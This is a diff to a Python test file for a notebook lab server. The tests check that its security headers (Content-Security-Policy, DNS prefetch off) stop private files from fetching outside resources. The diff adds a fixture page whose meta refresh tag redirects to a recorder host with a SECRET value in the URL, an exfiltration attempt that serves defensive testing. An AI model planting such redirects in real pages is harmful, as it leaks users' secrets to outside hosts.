@@ -126,6 +126,7 @@ def test_the_lab_serves_its_pages_with_the_policy(lab: LabServer) -> None:
     request = urllib.request.Request(lab.url("/lab"))
     with urllib.request.urlopen(request, timeout=30) as response:
         header = response.headers["Content-Security-Policy"]
+        assert response.headers["X-DNS-Prefetch-Control"] == "off"
     assert header == content_security_policy("/"), header
     assert "img-src 'self' data: blob:" in header and "connect-src 'self'" in header
 
@@ -134,7 +135,10 @@ def test_a_private_sessions_files_opened_in_lab_fetch_nothing(page: Page, lab: L
     folder = lab.notebooks / "leaky"
     folder.mkdir()
     (folder / "report.ipynb").write_text(json.dumps(_leaky_notebook(recorder.base)))
-    (folder / "page.html").write_text("<html><body>" + _leaky_html(recorder.base, "file") + "</body></html>")
+    refresh = f'<meta http-equiv="refresh" content="0;url={recorder.base}/file-refresh?d={SECRET}">'
+    (folder / "page.html").write_text(
+        f"<html><head>{refresh}</head><body>" + _leaky_html(recorder.base, "file") + "</body></html>"
+    )
     console: list[str] = []
     page.on("console", lambda msg: console.append(msg.text))
 
